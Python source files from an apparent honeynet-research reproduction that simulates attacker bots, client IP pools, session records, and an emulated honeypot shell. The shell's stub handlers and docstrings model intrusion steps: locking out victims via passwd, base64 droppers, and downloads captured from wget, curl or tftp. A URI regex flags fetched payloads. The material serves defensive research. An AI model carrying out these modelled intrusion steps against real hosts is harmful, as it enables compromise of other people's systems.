        bots = bots + list(
            extra_bots_factory(population, tree.child("extra"), config)
        )
        names = [bot.name for bot in bots]
        if len(names) != len(set(names)):
            raise ValueError("extra bots collide with fleet bot names")
    collector = Collector()
    fleet_size = len(honeynet.honeypots)
    started = time.monotonic()
    logger.info(
        "simulating %s..%s at scale=%g with %d bots on %d honeypots",
        config.start, config.end, config.scale, len(bots), fleet_size,
    )

    current_month: str | None = None
    for day in days_between(config.start, config.end):
        month = month_key(day)
        if month != current_month:
            if current_month is not None:
                logger.debug(
                    "month %s done (%d sessions so far)",
                    current_month, len(collector.sessions),
                )
            current_month = month
        for bot in bots:
            intents = bot.sessions_for_day(context, day)
            if not intents:
                continue
            route_rng = context.tree.child(
                "route", bot.name, day.toordinal()
            ).rand()
            for intent in intents:
                honeypot = honeynet.honeypots[
                    bot.choose_honeypot_index(route_rng, fleet_size)
                ]
                if not config.include_telnet and intent.protocol.value == "telnet":
                    continue
                when = to_epoch(day, bot.start_seconds(route_rng, day))
                record = honeypot.handle(intent, when)
                collector.ingest(record)

    database = SessionDatabase(collector.sessions)
    logger.info(
        "simulation finished: %d sessions (%d dropped in outages) in %.1fs",
        len(database), collector.dropped, time.monotonic() - started,
    )
    return SimulationResult(
        config=config,
        population=population,
        infrastructure=infrastructure,
        malware=malware,
        honeynet=honeynet,
        collector=collector,
        database=database,
        bots=bots,
        whois=HistoricalWhois(population.registry),
    )
