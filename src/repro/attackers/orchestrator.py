"""Drives the whole simulation: bots × calendar → collected sessions.

For each day in the window, every bot draws its Poisson session count,
builds connection intents, and the orchestrator routes each intent to a
honeypot at a concrete time of day.  Delivery to the collector goes
through the fault-profile's transport channel (lossless for the default
paper profile); the result is wrapped in a queryable session database.

The day-loop supports checkpoint/resume: because every per-day random
stream is keyed by ``(bot, date)`` paths rather than shared generator
state, the only mutable state a resumed run must restore is the
collector and each honeypot's session counter — see
:mod:`repro.faults.checkpoint`.
"""

from __future__ import annotations

import logging
import time
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

from repro.attackers.base import Bot, BotContext
from repro.attackers.fleetplan import build_fleet
from repro.attackers.infrastructure import StorageInfrastructure
from repro.attackers.malware import MalwareFactory
from repro.config import SimulationConfig
from repro.faults.checkpoint import (
    load_checkpoint,
    restore_state,
    save_checkpoint,
)
from repro.faults.coverage import CoverageReport, build_coverage_report
from repro.faults.plan import FaultPlan, compile_fault_plan
from repro.faults.transport import (
    DirectChannel,
    ResilientChannel,
    build_channel,
)
from repro.honeynet.collector import Collector
from repro.honeynet.database import SessionDatabase
from repro.honeynet.deployment import Honeynet, deploy_honeynet
from repro.net.population import BasePopulation, build_base_population
from repro.net.whois import HistoricalWhois
from repro.util.rng import RngTree
from repro.util.timeutils import days_between, month_key, to_epoch

logger = logging.getLogger("repro.simulation")

#: Default checkpoint cadence (simulated days) when a checkpoint path
#: is given without an explicit interval.
DEFAULT_CHECKPOINT_EVERY_DAYS = 30


@dataclass
class SimulationResult:
    """Everything a downstream analysis might need from one run."""

    config: SimulationConfig
    population: BasePopulation
    infrastructure: StorageInfrastructure
    malware: MalwareFactory
    honeynet: Honeynet
    collector: Collector
    database: SessionDatabase
    bots: list[Bot]
    whois: HistoricalWhois
    plan: FaultPlan
    coverage: CoverageReport
    channel: DirectChannel | ResilientChannel


#: Signature of the optional fleet-extension hook.
ExtraBotsFactory = "Callable[[BasePopulation, RngTree, SimulationConfig], list[Bot]]"


def _check_bot_names(bots: list[Bot]) -> None:
    """Reject fleets with duplicate bot names, naming the offenders."""
    seen: set[str] = set()
    colliding: set[str] = set()
    for bot in bots:
        if bot.name in seen:
            colliding.add(bot.name)
        seen.add(bot.name)
    if colliding:
        names = ", ".join(sorted(colliding))
        raise ValueError(
            f"extra bots collide with fleet bot names: {names}"
        )


def run_simulation(
    config: SimulationConfig,
    extra_bots_factory=None,
    *,
    checkpoint_path: Path | str | None = None,
    checkpoint_every_days: int | None = None,
    resume: bool = False,
    stop_after: date | None = None,
) -> SimulationResult:
    """Generate the full synthetic dataset for ``config``.

    ``extra_bots_factory(population, tree, config)`` may return
    additional :class:`~repro.attackers.base.Bot` instances to run
    alongside the paper's roster — the extension point for studying new
    attacker behaviours against the same honeynet.

    Checkpointing: with ``checkpoint_path`` set, collector state and the
    day cursor are saved every ``checkpoint_every_days`` simulated days
    (atomic overwrite).  ``resume=True`` restores that state and
    continues from the saved cursor; a missing checkpoint file simply
    starts from scratch.  ``stop_after`` ends the loop after the given
    day (checkpointing first, when enabled), modelling a controlled
    shutdown mid-window; the returned result then covers only the
    simulated prefix.
    """
    tree = RngTree(config.seed)
    population = build_base_population(
        tree.child("net"), n_honeypot_ases=config.n_honeypot_ases
    )
    infrastructure = StorageInfrastructure(config, population, tree.child("infra"))
    malware = MalwareFactory(tree.child("malware"))
    honeynet = deploy_honeynet(config, population, tree.child("deploy"))
    context = BotContext(
        config=config,
        population=population,
        infrastructure=infrastructure,
        malware=malware,
        tree=tree.child("bots"),
    )
    bots = build_fleet(population, tree.child("fleet"), config)
    if extra_bots_factory is not None:
        bots = bots + list(
            extra_bots_factory(population, tree.child("extra"), config)
        )
        _check_bot_names(bots)

    plan = compile_fault_plan(
        config.faults,
        (honeypot.honeypot_id for honeypot in honeynet.honeypots),
        config.start,
        config.end,
        tree.child("faults"),
    )
    coverage = build_coverage_report(plan)
    collector = Collector(
        outages=config.faults.outages,
        sensor_down_days=plan.sensor_down_days,
    )
    channel = build_channel(
        collector, config.faults.transport, tree.child("faults", "transport")
    )
    deliver = channel.deliver

    first_day = config.start
    if resume:
        if checkpoint_path is None:
            raise ValueError("resume=True requires a checkpoint_path")
        if Path(checkpoint_path).exists():
            checkpoint = load_checkpoint(checkpoint_path, config)
            first_day = restore_state(checkpoint, honeynet, collector)
            logger.info(
                "resumed from %s: %d sessions, next day %s",
                checkpoint_path, len(collector.sessions), first_day,
            )
        else:
            logger.info(
                "no checkpoint at %s; starting fresh", checkpoint_path
            )
    if checkpoint_path is not None and checkpoint_every_days is None:
        checkpoint_every_days = DEFAULT_CHECKPOINT_EVERY_DAYS

    fleet_size = len(honeynet.honeypots)
    started = time.monotonic()
    logger.info(
        "simulating %s..%s at scale=%g with %d bots on %d honeypots "
        "(fault profile: %s)",
        first_day, config.end, config.scale, len(bots), fleet_size,
        config.faults.name,
    )

    current_month: str | None = None
    days_done = 0
    days = (
        days_between(first_day, config.end)
        if first_day <= config.end
        else iter(())
    )
    for day in days:
        month = month_key(day)
        if month != current_month:
            if current_month is not None:
                logger.debug(
                    "month %s done (%d sessions so far)",
                    current_month, len(collector.sessions),
                )
            current_month = month
        for bot in bots:
            intents = bot.sessions_for_day(context, day)
            if not intents:
                continue
            route_rng = context.tree.child(
                "route", bot.name, day.toordinal()
            ).rand()
            for intent in intents:
                honeypot = honeynet.honeypots[
                    bot.choose_honeypot_index(route_rng, fleet_size)
                ]
                if not config.include_telnet and intent.protocol.value == "telnet":
                    continue
                when = to_epoch(day, bot.start_seconds(route_rng, day))
                record = honeypot.handle(intent, when)
                deliver(record)
        days_done += 1
        stopping = stop_after is not None and day >= stop_after
        if checkpoint_path is not None and (
            stopping or days_done % checkpoint_every_days == 0
        ):
            save_checkpoint(
                checkpoint_path, config, day + timedelta(days=1),
                honeynet, collector,
            )
            logger.debug("checkpointed through %s", day)
        if stopping:
            logger.info("controlled stop after %s", day)
            break

    database = SessionDatabase(collector.sessions)
    logger.info(
        "simulation finished: %d sessions (%d dropped in outages/downtime, "
        "%d dead-lettered) in %.1fs",
        len(database), collector.dropped, collector.dead_lettered,
        time.monotonic() - started,
    )
    return SimulationResult(
        config=config,
        population=population,
        infrastructure=infrastructure,
        malware=malware,
        honeynet=honeynet,
        collector=collector,
        database=database,
        bots=bots,
        whois=HistoricalWhois(population.registry),
        plan=plan,
        coverage=coverage,
        channel=channel,
    )
