"""Attacker ecosystem: activity models, bots, malware, infrastructure."""

from repro.attackers.activity import (
    ActivityModel,
    Campaign,
    ConstantRate,
    LinearTrend,
    MonthlyRate,
    RampUp,
    SumRate,
    Suppressed,
    Wave,
    total_rate,
)
from repro.attackers.base import Bot, BotContext
from repro.attackers.fleetplan import build_fleet, find_bot
from repro.attackers.infrastructure import (
    ARCHETYPE_PLAN,
    ArchetypePlan,
    HostArchetype,
    StorageHost,
    StorageInfrastructure,
)
from repro.attackers.ippool import ClientIPPool, SharedPool
from repro.attackers.malware import (
    MIRAI_2024_STRAINS,
    MalwareFactory,
    MalwareFamily,
    MalwareSample,
)
from repro.attackers.orchestrator import SimulationResult, run_simulation

__all__ = [
    "ActivityModel",
    "Campaign",
    "ConstantRate",
    "LinearTrend",
    "MonthlyRate",
    "RampUp",
    "SumRate",
    "Suppressed",
    "Wave",
    "total_rate",
    "Bot",
    "BotContext",
    "build_fleet",
    "find_bot",
    "ARCHETYPE_PLAN",
    "ArchetypePlan",
    "HostArchetype",
    "StorageHost",
    "StorageInfrastructure",
    "ClientIPPool",
    "SharedPool",
    "MIRAI_2024_STRAINS",
    "MalwareFactory",
    "MalwareFamily",
    "MalwareSample",
    "SimulationResult",
    "run_simulation",
]
