"""Client IP pools — where each bot's sessions originate.

Each bot owns a pool of client IPs drawn from the base AS population
(skewed to ISP/NSP eyeball space, the paper's Figure 7 left side).
Pool sizes follow the paper's per-actor unique-IP counts multiplied by
the simulation scale, with a small floor so every actor remains
observable at tiny scales.
"""

from __future__ import annotations

import random

from repro.net.asn import ASType
from repro.net.ipv4 import int_to_ip
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: Minimum pool size regardless of scale (keeps actors observable).
MIN_POOL_SIZE = 4


class ClientIPPool:
    """A fixed set of client IPs with weighted reuse."""

    def __init__(
        self,
        name: str,
        population: BasePopulation,
        rng_tree: RngTree,
        paper_ips: int,
        scale: float,
        as_type: ASType | None = None,
        min_size: int = MIN_POOL_SIZE,
    ) -> None:
        self.name = name
        self._population = population
        size = max(min_size, int(round(paper_ips * scale)))
        rng = rng_tree.child("ippool", name).rand()
        self._ips: list[str] = []
        seen: set[str] = set()
        while len(self._ips) < size:
            record = (
                rng.choice(population.registry.of_type(as_type))
                if as_type is not None
                else population.weighted_client_as(rng)
            )
            address = int_to_ip(record.random_ip(rng))
            if address not in seen:
                seen.add(address)
                self._ips.append(address)
        # Zipf-ish reuse weights: a few heavy hitters, a long tail.
        self._weights = [1.0 / (rank + 1) ** 0.6 for rank in range(size)]
        self._total_weight = sum(self._weights)

    def __len__(self) -> int:
        return len(self._ips)

    @property
    def ips(self) -> list[str]:
        return list(self._ips)

    def pick(self, rng: random.Random) -> str:
        """Weighted pick: heavy hitters dominate like real botnets."""
        point = rng.random() * self._total_weight
        cumulative = 0.0
        for address, weight in zip(self._ips, self._weights):
            cumulative += weight
            if point <= cumulative:
                return address
        return self._ips[-1]

    def pick_uniform(self, rng: random.Random) -> str:
        return rng.choice(self._ips)

    def sample(self, rng: random.Random, count: int) -> list[str]:
        """Up to ``count`` distinct IPs."""
        return rng.sample(self._ips, min(count, len(self._ips)))


class SharedPool(ClientIPPool):
    """A pool derived from another pool plus a sliver of extra IPs.

    Models the 99.4 % client-IP overlap between the mdrfckr actor and
    the 3245gs5662d34 credential attack (section 9).
    """

    def __init__(
        self,
        name: str,
        base_pool: ClientIPPool,
        population: BasePopulation,
        rng_tree: RngTree,
        overlap: float = 0.994,
    ) -> None:
        self.name = name
        self._population = population
        rng = rng_tree.child("ippool", name).rand()
        extra_count = max(1, int(round(len(base_pool) * (1 - overlap) / overlap)))
        extras: list[str] = []
        seen = set(base_pool.ips)
        while len(extras) < extra_count:
            record = population.weighted_client_as(rng)
            address = int_to_ip(record.random_ip(rng))
            if address not in seen:
                seen.add(address)
                extras.append(address)
        self._ips = base_pool.ips + extras
        self._weights = [1.0 / (rank + 1) ** 0.6 for rank in range(len(self._ips))]
        self._total_weight = sum(self._weights)
