"""Bot framework: how attacker behaviours become connection intents.

A :class:`Bot` owns an activity model (sessions/day at paper scale), a
client-IP pool and a behaviour generator.  The orchestrator asks each
bot for its sessions day by day; everything is derived deterministically
from the simulation seed, the bot name and the date.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import date

from repro.attackers.activity import ActivityModel
from repro.attackers.infrastructure import StorageInfrastructure
from repro.attackers.ippool import ClientIPPool
from repro.attackers.malware import MalwareFactory
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent, Protocol
from repro.net.population import BasePopulation
from repro.util.rng import RngTree, poisson

#: Default SSH client banners rotated by bots.
DEFAULT_SSH_VERSIONS = (
    "SSH-2.0-libssh2_1.8.2",
    "SSH-2.0-Go",
    "SSH-2.0-PUTTY",
    "SSH-2.0-OpenSSH_7.4p1",
    "SSH-2.0-libssh-0.9.6",
)


@dataclass
class BotContext:
    """Shared simulation substrate handed to every bot."""

    config: SimulationConfig
    population: BasePopulation
    infrastructure: StorageInfrastructure
    malware: MalwareFactory
    tree: RngTree


class Bot:
    """Base class for one attacker behaviour (one ground-truth label)."""

    #: Telnet share of this bot's sessions (the paper analyses SSH only,
    #: but the honeynet records both).
    telnet_fraction: float = 0.0
    #: Boost tiny expected volumes so rare actors stay observable at
    #: small scales (documented deviation; 0 disables).
    min_expected_per_day: float = 0.0
    ssh_versions: tuple[str, ...] = DEFAULT_SSH_VERSIONS

    def __init__(
        self, name: str, activity: ActivityModel, pool: ClientIPPool
    ) -> None:
        self.name = name
        self.activity = activity
        self.pool = pool

    # ------------------------------------------------------------------
    def rate(self, day: date) -> float:
        """Paper-scale sessions/day."""
        return self.activity.rate(day)

    def session_count(self, ctx: BotContext, day: date) -> int:
        """Scaled Poisson draw of today's session count.

        Activity rates are specified as *SSH* sessions/day (the paper's
        volumes are SSH-only); bots with a Telnet share emit extra
        sessions on top so the SSH volume still matches the rate.
        """
        expected = self.rate(day) * ctx.config.scale
        if self.telnet_fraction > 0:
            expected /= 1.0 - min(self.telnet_fraction, 0.9)
        if expected <= 0:
            return 0
        if self.min_expected_per_day > 0:
            expected = max(expected, self.min_expected_per_day)
        rng = ctx.tree.child("count", self.name, day.toordinal()).rand()
        return poisson(rng, expected)

    def sessions_for_day(self, ctx: BotContext, day: date) -> list[ConnectionIntent]:
        """All of this bot's connection intents for ``day``."""
        count = self.session_count(ctx, day)
        if count == 0:
            return []
        rng = ctx.tree.child("intents", self.name, day.toordinal()).rand()
        return [self.build_intent(ctx, day, rng, index) for index in range(count)]

    # ------------------------------------------------------------------
    # helpers available to subclasses
    # ------------------------------------------------------------------
    def start_seconds(self, rng: random.Random, day: date) -> float:
        """Second-of-day at which a session starts (uniform by default)."""
        return rng.uniform(0, 86_400)

    def choose_honeypot_index(
        self, rng: random.Random, fleet_size: int
    ) -> int:
        """Which honeypot a session targets (uniform by default)."""
        return rng.randrange(fleet_size)

    def client_ip(self, rng: random.Random) -> str:
        return self.pool.pick(rng)

    def protocol(self, rng: random.Random) -> Protocol:
        if self.telnet_fraction > 0 and rng.random() < self.telnet_fraction:
            return Protocol.TELNET
        return Protocol.SSH

    def ssh_version(self, rng: random.Random) -> str:
        return rng.choice(list(self.ssh_versions))

    def make_intent(
        self,
        rng: random.Random,
        credentials: tuple[tuple[str, str], ...],
        command_lines: tuple[str, ...] = (),
        remote_files: tuple[tuple[str, bytes], ...] = (),
        duration_s: float | None = None,
        hold_open: bool = False,
        client_ip: str | None = None,
    ) -> ConnectionIntent:
        protocol = self.protocol(rng)
        return ConnectionIntent(
            client_ip=client_ip or self.client_ip(rng),
            client_port=rng.randint(1024, 65000),
            protocol=protocol,
            ssh_version=self.ssh_version(rng) if protocol == Protocol.SSH else None,
            credentials=credentials,
            command_lines=command_lines,
            remote_files=remote_files,
            duration_s=duration_s
            if duration_s is not None
            else rng.uniform(1.0, 20.0),
            hold_open=hold_open,
            bot_label=self.name,
        )

    # ------------------------------------------------------------------
    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        raise NotImplementedError


def random_password(rng: random.Random, length: int, alphabet: str) -> str:
    """A random credential string of the given length."""
    return "".join(rng.choice(alphabet) for _ in range(length))


ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
LOWER_DIGITS = "abcdefghijklmnopqrstuvwxyz0123456789"
UPPER5 = "ABCDEFGHJKLMNPQRSTUVWXYZ"
#: Vowel-free alphabet for generated filenames: no random name can spell
#: a category trigger token ("sora", "dred", "ok", ...).
SAFE_NAME_ALPHABET = "bcdfghjklmnpqrtvwxz"
