"""URI extraction — "if a command includes a URI ... it is recorded"."""

from __future__ import annotations

import re

#: Schemes the honeynet records (paper section 3.2 lists (S)FTP, HTTP(S),
#: and anything else retrieved from a remote target).
_URI_PATTERN = re.compile(
    r"\b(?:https?|ftp|tftp|sftp)://[^\s;|&'\"<>]+", re.IGNORECASE
)


def extract_uris(text: str) -> list[str]:
    """Return every URI literally present in ``text`` (in order)."""
    return [match.group(0).rstrip(".,)") for match in _URI_PATTERN.finditer(text)]
