"""Session record schema — the unit of data everything else consumes.

Mirrors what the paper's honeynet records per session (section 3.2):
basic connection info, the SSH client version, every login attempt with
its outcome, every executed command (flagged known/unknown), every URI
seen in a command, and a SHA-256 hash for every file created or
modified.  ``bot_label`` is simulation ground truth used only by
validation tests — the analysis pipeline never reads it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum


class Protocol(str, Enum):
    """The two services the honeypot exposes."""

    SSH = "ssh"
    TELNET = "telnet"


class FileOp(str, Enum):
    """File-level events observed by the honeypot shell."""

    CREATE = "create"
    MODIFY = "modify"
    DELETE = "delete"
    EXECUTE = "execute"
    EXECUTE_MISSING = "execute_missing"


@dataclass(frozen=True)
class LoginAttempt:
    """One credential pair offered by the client."""

    username: str
    password: str
    success: bool


@dataclass(frozen=True)
class CommandRecord:
    """One input line typed into the emulated shell."""

    raw: str
    known: bool
    output: str = ""


@dataclass(frozen=True)
class FileEvent:
    """One file created / modified / deleted / executed in a session.

    ``source`` distinguishes artifacts captured by the transfer
    emulation (wget/curl/tftp/ftpget — the honeypot's download capture
    path) from files written through ordinary shell commands.
    """

    path: str
    op: FileOp
    sha256: str | None = None
    source: str = "shell"


@dataclass(frozen=True)
class ConnectionIntent:
    """What a client intends to do once connected.

    This is the neutral interface between the attacker simulation and the
    honeypot: the honeypot sees only what a real client would send —
    credentials in order, then shell input lines.  ``remote_files`` maps
    URL → payload bytes for content the honeypot could fetch at the time
    of the session (an empty mapping means every fetch fails, e.g. a
    download server that refuses the honeypot).
    """

    client_ip: str
    client_port: int = 44022
    protocol: Protocol = Protocol.SSH
    ssh_version: str | None = "SSH-2.0-libssh2_1.8.2"
    credentials: tuple[tuple[str, str], ...] = ()
    command_lines: tuple[str, ...] = ()
    remote_files: tuple[tuple[str, bytes], ...] = ()
    duration_s: float = 5.0
    hold_open: bool = False
    bot_label: str | None = None

    def remote_file_map(self) -> dict[str, bytes]:
        return dict(self.remote_files)


@dataclass
class SessionRecord:
    """Everything the honeynet stores about one TCP session."""

    session_id: str
    honeypot_id: str
    honeypot_ip: str
    honeypot_port: int
    protocol: Protocol
    client_ip: str
    client_port: int
    start: float
    end: float
    ssh_version: str | None = None
    logins: list[LoginAttempt] = field(default_factory=list)
    commands: list[CommandRecord] = field(default_factory=list)
    uris: list[str] = field(default_factory=list)
    file_events: list[FileEvent] = field(default_factory=list)
    timed_out: bool = False
    bot_label: str | None = None

    @property
    def login_succeeded(self) -> bool:
        """Whether any login attempt was accepted."""
        return any(attempt.success for attempt in self.logins)

    @property
    def successful_login(self) -> LoginAttempt | None:
        """The accepted login attempt, if any."""
        for attempt in self.logins:
            if attempt.success:
                return attempt
        return None

    @property
    def executed_commands(self) -> bool:
        """Whether the client executed at least one command."""
        return bool(self.commands)

    @property
    def command_text(self) -> str:
        """All input lines joined, as one analysable string."""
        return " ; ".join(record.raw for record in self.commands)

    @property
    def duration_s(self) -> float:
        return max(0.0, self.end - self.start)

    def hashes(self) -> list[str]:
        """All non-null file hashes recorded in this session."""
        return [
            event.sha256 for event in self.file_events if event.sha256
        ]

    def download_hashes(self) -> list[str]:
        """Hashes of files *created or modified* (i.e. loaded) here."""
        return [
            event.sha256
            for event in self.file_events
            if event.sha256 and event.op in (FileOp.CREATE, FileOp.MODIFY)
        ]

    def transfer_hashes(self) -> list[str]:
        """Hashes of files captured by the download emulation only."""
        return [
            event.sha256
            for event in self.file_events
            if event.sha256
            and event.source == "transfer"
            and event.op in (FileOp.CREATE, FileOp.MODIFY)
        ]
