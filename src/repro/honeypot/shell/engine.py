"""Execution engine tying parser, registry and context together."""

from __future__ import annotations

from repro.honeypot.session import CommandRecord
from repro.honeypot.shell.context import CommandResult, ShellContext
from repro.honeypot.shell.parser import ParseError, Pipeline, SimpleCommand, parse_line
from repro.honeypot.shell.registry import default_registry, resolve_path_command
from repro.honeypot.uri import extract_uris

#: Recursion guard for ``sh -c`` / ``nohup`` style wrapping.
MAX_DEPTH = 6


class ShellEngine:
    """Executes input lines against a :class:`ShellContext`."""

    def __init__(self, context: ShellContext) -> None:
        self.context = context

    def run_line(self, raw: str) -> CommandRecord:
        """Execute one input line and return its session record.

        Parse failures are recorded verbatim as unknown input — the
        honeypot never crashes on hostile syntax.
        """
        uris_before = len(self.context.uris)
        try:
            statements = parse_line(raw)
        except ParseError:
            self._record_raw_uris(raw, uris_before)
            return CommandRecord(raw=raw, known=False, output="")
        outputs: list[str] = []
        known = True
        previous_succeeded = True
        for statement in statements:
            if statement.connector == "&&" and not previous_succeeded:
                continue
            if statement.connector == "||" and previous_succeeded:
                continue
            result = self._run_pipeline(statement.pipeline)
            outputs.append(result.output)
            known = known and result.known
            previous_succeeded = result.success
            if self.context.exited:
                break
        self._record_raw_uris(raw, uris_before)
        return CommandRecord(raw=raw, known=known, output="".join(outputs))

    def run_text(self, text: str) -> CommandRecord:
        """Execute a multi-line script body (``sh -c`` / piped scripts)."""
        outputs: list[str] = []
        known = True
        for line in text.splitlines():
            if not line.strip():
                continue
            record = self.run_line(line)
            outputs.append(record.output)
            known = known and record.known
            if self.context.exited:
                break
        return CommandRecord(raw=text, known=known, output="".join(outputs))

    def _record_raw_uris(self, raw: str, uris_before: int) -> None:
        """Record URIs literally present in the line, unless a handler
        already recorded them while executing it."""
        recorded_this_line = set(self.context.uris[uris_before:])
        for uri in extract_uris(raw):
            if uri not in recorded_this_line:
                self.context.record_uri(uri)
                recorded_this_line.add(uri)

    def _run_pipeline(self, pipeline: Pipeline) -> CommandResult:
        stdin = ""
        result = CommandResult(output="")
        for stage in pipeline.stages:
            result = self._run_simple(stage, stdin)
            redirect = stage.redirects[-1] if stage.redirects else None
            if redirect is not None:
                target = self.context.expand(redirect.target)
                if target not in ("/dev/null",):
                    # latin-1 keeps binary payloads written through the
                    # shell byte-exact (echo -e / base64 -d droppers)
                    self.context.write_file(
                        target,
                        result.output.encode("latin-1", "replace"),
                        append=(redirect.op == ">>"),
                    )
                result = CommandResult(output="", success=result.success, known=result.known)
            stdin = result.output
        return result

    def _run_simple(self, command: SimpleCommand, stdin: str) -> CommandResult:
        for name, value in command.assignments:
            self.context.env[name] = self.context.expand(value)
        if not command.argv:
            return CommandResult(output="", success=True)
        name = command.argv[0]
        registry = default_registry()
        handler = registry.get(name)
        if handler is not None:
            return handler(self.context, command.argv, stdin)
        if "/" in name:
            mapped = resolve_path_command(name)
            if mapped is not None:
                return registry[mapped](self.context, command.argv, stdin)
            return self.context.execute_file(name)
        return CommandResult(
            output=f"-bash: {name}: command not found\n",
            success=False,
            known=False,
        )


def run_wrapped(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    """Run ``argv`` as a wrapped command (``nohup``/``sudo`` bodies)."""
    if not argv:
        return CommandResult(output="")
    depth = getattr(ctx, "_wrap_depth", 0)
    if depth >= MAX_DEPTH:
        return CommandResult(output="", success=False)
    ctx._wrap_depth = depth + 1
    try:
        engine = ShellEngine(ctx)
        return engine._run_simple(SimpleCommand(argv=list(argv)), stdin)
    finally:
        ctx._wrap_depth = depth
