"""System-administration commands: credentials, processes, encoding."""

from __future__ import annotations

import base64
import binascii

from repro.honeypot.shell.context import CommandResult, ShellContext
from repro.util.hashing import short_hash


def cmd_passwd(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    """``passwd`` — the mdrfckr bot locks victims out with this."""
    new_password = stdin.splitlines()[0] if stdin else "hunter2"
    ctx.root_password = new_password
    return CommandResult(
        output="passwd: password updated successfully\n"
    )


def cmd_chpasswd(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    for line in stdin.splitlines():
        user, _, password = line.partition(":")
        if user == "root" and password:
            ctx.root_password = password
    return CommandResult(output="")


def cmd_openssl(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    if len(argv) > 1 and argv[1] == "passwd":
        material = argv[-1] if len(argv) > 2 else (stdin or "x")
        return CommandResult(output=f"$1$salt${short_hash(material, 22)}\n")
    return CommandResult(output="")


def cmd_base64(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    decode = any(arg in ("-d", "--decode") for arg in argv[1:])
    payload = stdin
    file_args = [arg for arg in argv[1:] if not arg.startswith("-")]
    if file_args:
        content = ctx.fs.read(ctx.resolve(file_args[0]))
        payload = content.decode("utf-8", "replace") if content is not None else ""
    if decode:
        try:
            decoded = base64.b64decode(payload, validate=False)
            # latin-1 is lossless for arbitrary bytes, so binary
            # payloads survive the str-typed shell pipeline intact
            return CommandResult(output=decoded.decode("latin-1"))
        except (binascii.Error, ValueError):
            return CommandResult(output="base64: invalid input\n", success=False)
    encoded = base64.b64encode(payload.encode("utf-8")).decode("ascii")
    return CommandResult(output=encoded + "\n")


def cmd_pkill(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_kill(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_killall(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_service(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_systemctl(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_iptables(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_ulimit(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="unlimited\n")


def cmd_sleep(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_sync(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_apt(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="Reading package lists... Done\n")


def cmd_yum(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="Loaded plugins: fastestmirror\n")


def cmd_perl(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    """``perl script`` is an exec attempt; ``perl -e`` is inline."""
    args = [arg for arg in argv[1:] if not arg.startswith("-")]
    inline = any(arg == "-e" for arg in argv[1:])
    if inline or not args:
        return CommandResult(output="")
    return ctx.execute_file(args[0])


def cmd_python(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    args = [arg for arg in argv[1:] if not arg.startswith("-")]
    inline = any(arg == "-c" for arg in argv[1:])
    if inline or not args:
        return CommandResult(output="")
    return ctx.execute_file(args[0])


def cmd_nohup(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    """``nohup cmd`` — defer to the engine for the wrapped command."""
    from repro.honeypot.shell.engine import run_wrapped

    return run_wrapped(ctx, argv[1:], stdin)


def cmd_sudo(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    from repro.honeypot.shell.engine import run_wrapped

    return run_wrapped(ctx, argv[1:], stdin)


def cmd_sh(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    """``sh script`` executes a file; ``sh -c "..."`` runs inline."""
    from repro.honeypot.shell.engine import ShellEngine

    args = list(argv[1:])
    if args and args[0] == "-c" and len(args) > 1:
        engine = ShellEngine(ctx)
        record = engine.run_text(args[1])
        return CommandResult(output=record.output, known=record.known)
    file_args = [arg for arg in args if not arg.startswith("-")]
    if file_args:
        return ctx.execute_file(file_args[0])
    if stdin:
        engine = ShellEngine(ctx)
        record = engine.run_text(stdin)
        return CommandResult(output=record.output, known=record.known)
    return CommandResult(output="")
