"""Shell-input parser for the emulated honeypot shell.

Parses one input line into statements (split on ``;`` / ``&&`` / ``||``),
each a pipeline of simple commands (split on ``|``), each with argv and
output redirections.  Quoting (single, double, backslash) is honoured;
anything the parser cannot make sense of is surfaced as a
:class:`ParseError` so the engine can record the line as unknown input,
exactly as Cowrie records lines it cannot interpret.
"""

from __future__ import annotations

from dataclasses import dataclass, field


class ParseError(ValueError):
    """Raised when an input line is not parseable shell syntax."""


@dataclass(frozen=True)
class Redirect:
    """An output redirection (``>`` or ``>>``) to a target path."""

    op: str
    target: str


@dataclass
class SimpleCommand:
    """One command invocation: argv plus redirections."""

    argv: list[str]
    redirects: list[Redirect] = field(default_factory=list)
    assignments: list[tuple[str, str]] = field(default_factory=list)

    @property
    def name(self) -> str:
        return self.argv[0] if self.argv else ""


@dataclass
class Pipeline:
    """Commands connected by ``|``; stdout feeds the next stage."""

    stages: list[SimpleCommand]


@dataclass
class Statement:
    """A pipeline plus the connector linking it to the previous one."""

    pipeline: Pipeline
    connector: str = ";"


_OPERATORS = ("&&", "||", ";", "|", "\n")


def _tokenize(line: str) -> list[str]:
    """Split a line into words and operator tokens, honouring quotes.

    Quotes are stripped from word tokens (their only role here is
